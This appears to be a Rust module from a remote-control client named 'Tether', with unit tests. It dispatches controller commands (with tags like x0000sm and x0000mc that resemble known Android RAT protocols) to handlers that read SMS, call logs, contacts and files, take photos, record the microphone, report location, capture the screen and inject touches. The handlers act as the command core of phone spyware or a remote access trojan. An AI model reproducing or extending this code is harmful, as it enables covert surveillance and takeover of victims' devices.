//! Stock handlers for every command kind.

use std::sync::Arc;

use async_trait::async_trait;
use serde_json::{Value, json};

use crate::capture::CapturePipeline;
use crate::device::DeviceServices;
use crate::dispatch::{CommandHandler, Dispatcher, HandlerContext, Outcome};
use crate::error::{TaskError, TetherError};
use crate::input::InputBridge;
use crate::message::{Command, CommandKind};
use crate::protocol::Response;

/// Serves the camera, files, sms, call log, contacts, mic and location
/// kinds from a [`DeviceServices`] implementation.
pub struct DeviceHandler {
    device: Arc<dyn DeviceServices>,
}

impl DeviceHandler {
    pub const KINDS: [CommandKind; 7] = [
        CommandKind::Camera,
        CommandKind::Files,
        CommandKind::Sms,
        CommandKind::CallLogs,
        CommandKind::Contacts,
        CommandKind::Mic,
        CommandKind::Location,
    ];

    pub fn new(device: Arc<dyn DeviceServices>) -> Self {
        Self { device }
    }
}

#[async_trait]
impl CommandHandler for DeviceHandler {
    async fn handle(&self, command: Command, ctx: &HandlerContext) -> Result<Outcome, TetherError> {
        let kind = command.kind();
        let device = Arc::clone(&self.device);

        let outcome = match command {
            Command::ListCameras => Outcome::Reply(Response::data(device.list_cameras().await?)),
            Command::ListFiles { path } => {
                Outcome::Reply(Response::data(device.list_files(&path).await?))
            }
            Command::ListSms => Outcome::Reply(Response::data(device.list_sms().await?)),
            Command::SendSms { to, body } => {
                let sent = device.send_sms(&to, &body).await?;
                Outcome::Reply(Response::data(Value::Bool(sent)))
            }
            Command::ListCallLogs => Outcome::Reply(Response::data(device.list_call_logs().await?)),
            Command::ListContacts => Outcome::Reply(Response::data(device.list_contacts().await?)),
            Command::GetLocation => {
                let body = match device.last_location().await? {
                    Some(at) => json!({ "enable": true, "lat": at.lat, "lng": at.lng }),
                    None => json!({ "enable": false }),
                };
                Outcome::Reply(Response::data(body))
            }

            Command::StartCamera(facing) => Outcome::Spawned(ctx.spawn_reply(
                "camera",
                kind,
                async move {
                    let photo = device.capture_camera(facing).await?;
                    Ok::<_, TetherError>(Response::data(photo.to_value()))
                },
            )),
            Command::DownloadFile { path } => Outcome::Spawned(ctx.spawn_reply(
                "download",
                kind,
                async move {
                    let file = device.read_file(&path).await?;
                    Ok::<_, TetherError>(Response::data(file.to_value()))
                },
            )),
            Command::RecordMic { seconds } => Outcome::Spawned(ctx.spawn_reply(
                "mic",
                kind,
                async move {
                    let clip = device.record_mic(seconds).await?;
                    Ok::<_, TetherError>(Response::data(clip.to_value()))
                },
            )),

            other => {
                return Err(TetherError::InvalidCommand(format!(
                    "{other} is not a device command"
                )));
            }
        };
        Ok(outcome)
    }
}

// ── Remote control ───────────────────────────────────────────────

/// Screen capture start/stop and touch injection.
pub struct RemoteControlHandler {
    pipeline: CapturePipeline,
    input: Arc<InputBridge>,
}

impl RemoteControlHandler {
    pub fn new(pipeline: CapturePipeline, input: Arc<InputBridge>) -> Self {
        Self { pipeline, input }
    }
}

#[async_trait]
impl CommandHandler for RemoteControlHandler {
    async fn handle(&self, command: Command, ctx: &HandlerContext) -> Result<Outcome, TetherError> {
        match command {
            Command::CaptureStart => Ok(Outcome::Reply(self.pipeline.start().await.response())),
            Command::CaptureStop => Ok(Outcome::Reply(self.pipeline.stop().await.response())),

            // Touches are fire-and-forget: success sends nothing.
            Command::InjectTouch { at, action } => {
                self.input.inject_touch(at, action)?;
                Ok(Outcome::Silent)
            }

            Command::InjectSwipe { from, to, duration } => {
                let input = Arc::clone(&self.input);
                let id = ctx.tasks().spawn("swipe", move |token| async move {
                    tokio::select! {
                        _ = token.cancelled() => Err(TaskError::Cancelled.into()),
                        r = input.inject_swipe(from, to, duration) => r,
                    }
                });
                Ok(Outcome::Spawned(id))
            }
            Command::InjectLongPress { at, duration } => {
                let input = Arc::clone(&self.input);
                let id = ctx.tasks().spawn("long-press", move |token| async move {
                    tokio::select! {
                        _ = token.cancelled() => Err(TaskError::Cancelled.into()),
                        r = input.inject_long_press(at, duration) => r,
                    }
                });
                Ok(Outcome::Spawned(id))
            }

            other => Err(TetherError::InvalidCommand(format!(
                "{other} is not a remote control command"
            ))),
        }
    }
}

/// Register the stock handlers for every command kind.
pub fn install_defaults(
    dispatcher: &mut Dispatcher,
    device: Arc<dyn DeviceServices>,
    pipeline: CapturePipeline,
    input: Arc<InputBridge>,
) {
    let device: Arc<dyn CommandHandler> = Arc::new(DeviceHandler::new(device));
    for kind in DeviceHandler::KINDS {
        dispatcher.register(kind, Arc::clone(&device));
    }
    dispatcher.register(
        CommandKind::RemoteControl,
        Arc::new(RemoteControlHandler::new(pipeline, input)),
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture::{
        CaptureBackend, CaptureConsent, EncoderProfile, InputSurface, VideoEncoder, VirtualDisplay,
    };
    use crate::device::GeoPoint;
    use crate::envelope::{Envelope, ORDER_TAG};
    use crate::input::{InjectionCapability, TouchEvent};
    use crate::message::{CameraFacing, TouchAction};
    use crate::network::EnvelopeSink;
    use crate::protocol::Attachment;
    use crate::task::TaskPool;
    use bytes::Bytes;
    use std::sync::Mutex;

    #[derive(Default)]
    struct RecordingSink {
        sent: Mutex<Vec<(String, Bytes)>>,
    }

    impl RecordingSink {
        fn replies(&self) -> Vec<(String, Value)> {
            self.sent
                .lock()
                .unwrap()
                .iter()
                .map(|(tag, body)| (tag.clone(), serde_json::from_slice(body).unwrap()))
                .collect()
        }
    }

    #[async_trait]
    impl EnvelopeSink for RecordingSink {
        async fn send(&self, tag: &str, payload: Bytes) -> Result<(), TetherError> {
            self.sent.lock().unwrap().push((tag.to_string(), payload));
            Ok(())
        }

        fn is_connected(&self) -> bool {
            true
        }
    }

    struct FakeDevice {
        location: Option<GeoPoint>,
    }

    #[async_trait]
    impl DeviceServices for FakeDevice {
        async fn list_cameras(&self) -> Result<Value, TetherError> {
            Ok(json!({ "camList": true, "list": [{ "name": "Back", "id": 0 }] }))
        }
        async fn capture_camera(&self, facing: CameraFacing) -> Result<Attachment, TetherError> {
            Ok(Attachment::new(format!("cam{}.jpg", facing.index()), &b"jpg"[..]))
        }
        async fn list_files(&self, path: &str) -> Result<Value, TetherError> {
            Ok(json!([{ "name": "a.txt", "path": format!("{path}/a.txt") }]))
        }
        async fn read_file(&self, path: &str) -> Result<Attachment, TetherError> {
            Err(TetherError::PermissionDenied(path.to_string()))
        }
        async fn list_sms(&self) -> Result<Value, TetherError> {
            Ok(json!({ "smsList": [] }))
        }
        async fn send_sms(&self, _to: &str, body: &str) -> Result<bool, TetherError> {
            Ok(!body.is_empty())
        }
        async fn list_call_logs(&self) -> Result<Value, TetherError> {
            Ok(json!({ "callsList": [] }))
        }
        async fn list_contacts(&self) -> Result<Value, TetherError> {
            Ok(json!({ "contactsList": [] }))
        }
        async fn record_mic(&self, seconds: u32) -> Result<Attachment, TetherError> {
            Ok(Attachment::new(format!("{seconds}s.mp4"), vec![0u8; 4]))
        }
        async fn last_location(&self) -> Result<Option<GeoPoint>, TetherError> {
            Ok(self.location)
        }
    }

    struct NoCapture;

    #[async_trait]
    impl CaptureBackend for NoCapture {
        fn is_supported(&self) -> bool {
            false
        }
        async fn request_consent(&self) -> Result<Option<Box<dyn CaptureConsent>>, TetherError> {
            Ok(None)
        }
        fn create_encoder(&self, _: &EncoderProfile) -> Result<Box<dyn VideoEncoder>, TetherError> {
            Err(TetherError::Unsupported("encoder".into()))
        }
        fn create_input_surface(
            &self,
            _: &mut dyn VideoEncoder,
        ) -> Result<Box<dyn InputSurface>, TetherError> {
            Err(TetherError::Unsupported("surface".into()))
        }
        fn create_virtual_display(
            &self,
            _: &dyn CaptureConsent,
            _: &EncoderProfile,
            _: &dyn InputSurface,
        ) -> Result<Box<dyn VirtualDisplay>, TetherError> {
            Err(TetherError::Unsupported("display".into()))
        }
    }

    #[derive(Default)]
    struct Touches {
        available: bool,
        events: Mutex<Vec<TouchEvent>>,
    }

    impl InjectionCapability for Touches {
        fn probe(&self) -> bool {
            self.available
        }
        fn inject(&self, event: TouchEvent) -> bool {
            self.events.lock().unwrap().push(event);
            true
        }
    }

    struct Rig {
        dispatcher: Dispatcher,
        sink: Arc<RecordingSink>,
        touches: Arc<Touches>,
        tasks: Arc<TaskPool>,
    }

    fn rig(location: Option<GeoPoint>, injection: bool) -> Rig {
        let sink = Arc::new(RecordingSink::default());
        let tasks = Arc::new(TaskPool::new());
        let touches = Arc::new(Touches {
            available: injection,
            ..Touches::default()
        });
        let pipeline = CapturePipeline::new(Arc::new(NoCapture), sink.clone(), Arc::clone(&tasks));
        let mut dispatcher = Dispatcher::new(sink.clone(), Arc::clone(&tasks));
        install_defaults(
            &mut dispatcher,
            Arc::new(FakeDevice { location }),
            pipeline,
            Arc::new(InputBridge::new(touches.clone())),
        );
        Rig {
            dispatcher,
            sink,
            touches,
            tasks,
        }
    }

    async fn send(rig: &Rig, body: Value) -> Option<Outcome> {
        rig.dispatcher
            .on_envelope(Envelope::new(ORDER_TAG, body.to_string()))
            .await
    }

    #[tokio::test]
    async fn every_kind_has_a_handler() {
        let rig = rig(None, false);
        for kind in CommandKind::ALL {
            assert!(rig.dispatcher.is_registered(kind), "{kind} missing");
        }
    }

    #[tokio::test]
    async fn quick_device_commands_reply_inline() {
        let rig = rig(None, false);
        send(&rig, json!({ "order": "x0000ca", "extra": "camList" })).await;
        send(&rig, json!({ "order": "x0000fm", "extra": "ls", "path": "/sdcard" })).await;
        send(&rig, json!({ "order": "x0000sm", "extra": "sendSMS", "to": "555", "sms": "hi" })).await;
        send(&rig, json!({ "order": "x0000cn" })).await;

        let replies = rig.sink.replies();
        let tags: Vec<_> = replies.iter().map(|(t, _)| t.as_str()).collect();
        assert_eq!(tags, ["x0000ca", "x0000fm", "x0000sm", "x0000cn"]);
        assert_eq!(replies[1].1["data"][0]["path"], "/sdcard/a.txt");
        assert_eq!(replies[2].1, json!({ "success": true, "data": true }));
    }

    #[tokio::test]
    async fn location_reports_enable_flag() {
        let rig = rig(Some(GeoPoint::new(48.85, 2.35)), false);
        send(&rig, json!({ "order": "x0000lm" })).await;
        let replies = rig.sink.replies();
        assert_eq!(
            replies[0].1["data"],
            json!({ "enable": true, "lat": 48.85, "lng": 2.35 })
        );

        let rig = self::rig(None, false);
        send(&rig, json!({ "order": "x0000lm" })).await;
        assert_eq!(rig.sink.replies()[0].1["data"], json!({ "enable": false }));
    }

    #[tokio::test]
    async fn long_running_commands_reply_from_a_task() {
        let rig = rig(None, false);
        let Some(Outcome::Spawned(id)) =
            send(&rig, json!({ "order": "x0000mc", "sec": 3 })).await
        else {
            panic!("mic should run in the background");
        };
        rig.tasks.join(id).await.unwrap();

        let replies = rig.sink.replies();
        assert_eq!(replies[0].0, "x0000mc");
        assert_eq!(replies[0].1["data"]["name"], "3s.mp4");
        assert_eq!(replies[0].1["data"]["size"], 4);
    }

    #[tokio::test]
    async fn failing_background_work_sends_nothing() {
        let rig = rig(None, false);
        let Some(Outcome::Spawned(id)) = send(
            &rig,
            json!({ "order": "x0000fm", "extra": "dl", "path": "/secret" }),
        )
        .await
        else {
            panic!("download should run in the background");
        };
        rig.tasks.join(id).await.unwrap();
        assert!(rig.sink.replies().is_empty());
    }

    #[tokio::test]
    async fn capture_start_on_unsupported_platform_is_rejected_and_stop_is_a_no_op() {
        let rig = rig(None, false);
        send(&rig, json!({ "order": "x0000rc", "extra": "start" })).await;
        send(&rig, json!({ "order": "x0000rc", "extra": "stop" })).await;

        let replies = rig.sink.replies();
        assert_eq!(
            replies[0],
            (
                "x0000rc".to_string(),
                json!({ "success": false, "error": "Requires Android 5.0 or higher" })
            )
        );
        assert_eq!(
            replies[1],
            (
                "x0000rc".to_string(),
                json!({ "success": true, "message": "Screen capture not active" })
            )
        );
    }

    #[tokio::test]
    async fn touch_is_silent_either_way() {
        let rig = rig(None, true);
        let outcome = send(
            &rig,
            json!({ "order": "x0000rc", "extra": "touch", "x": 10, "y": 20, "action": 0 }),
        )
        .await;
        assert_eq!(outcome, Some(Outcome::Silent));
        assert_eq!(
            rig.touches.events.lock().unwrap()[0],
            TouchEvent::new(crate::message::Point::new(10, 20), TouchAction::Down)
        );

        let rig = self::rig(None, false);
        let outcome = send(
            &rig,
            json!({ "order": "x0000rc", "extra": "touch", "x": 1, "y": 1, "action": 1 }),
        )
        .await;
        assert_eq!(outcome, None);
        assert!(rig.touches.events.lock().unwrap().is_empty());
        assert!(rig.sink.replies().is_empty());
    }

    #[tokio::test]
    async fn swipe_runs_in_the_background() {
        let rig = rig(None, true);
        let Some(Outcome::Spawned(id)) = send(
            &rig,
            json!({
                "order": "x0000rc", "extra": "swipe",
                "x1": 0, "y1": 0, "x2": 100, "y2": 0, "duration": 30
            }),
        )
        .await
        else {
            panic!("swipe should be spawned");
        };
        rig.tasks.join(id).await.unwrap();

        let events = rig.touches.events.lock().unwrap();
        assert_eq!(events.first().unwrap().action, TouchAction::Down);
        assert_eq!(events.last().unwrap().action, TouchAction::Up);
        assert!(rig.sink.replies().is_empty());
    }
}
